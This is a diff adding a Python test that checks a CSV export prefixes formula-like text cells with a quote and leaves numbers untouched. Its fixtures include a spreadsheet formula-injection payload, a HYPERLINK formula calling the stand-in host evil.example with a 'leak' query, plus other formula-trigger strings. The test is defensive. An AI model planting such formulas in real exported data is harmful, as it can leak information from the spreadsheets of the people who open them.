@@ -425,3 +425,23 @@ def test_export_zip(http: httpx.Client, exported_run: int) -> None:
         assert f"run {exported_run}" in archive.read(f"{stem}/official_result.txt").decode()
         loss = json.loads(archive.read(f"{stem}/loss.json"))
     assert [p["value"] for p in loss] == ["0.5", "0.25"]
+
+
+def test_export_csv_quotes_formulas_in_text_cells_and_leaves_numbers(
+    http: httpx.Client, run_id: int
+) -> None:
+    formula = '=HYPERLINK("https://evil.example/?leak","open me")'
+    starts = [formula, "+1+1", "-2-2", "@SUM(A1)", "\tlead tab", "\rlead cr"]
+    points = [
+        {"run_id": run_id, "name": name, "date": at(1), "value": -1.5, "metadata": "=1+1"}
+        for name in starts
+    ]
+    post_batch(http, [*points, {"run_id": run_id, "name": "loss", "date": at(1), "value": -2}])
+
+    response = export(http, run_id, "csv")
+
+    rows = list(csv.DictReader(io.StringIO(response.text)))
+    assert {row["metric"]: (row["value"], row["metadata"]) for row in rows} == {
+        **{f"'{name}": ("-1.5", "'=1+1") for name in starts},
+        "loss": ("-2.0", ""),
+    }
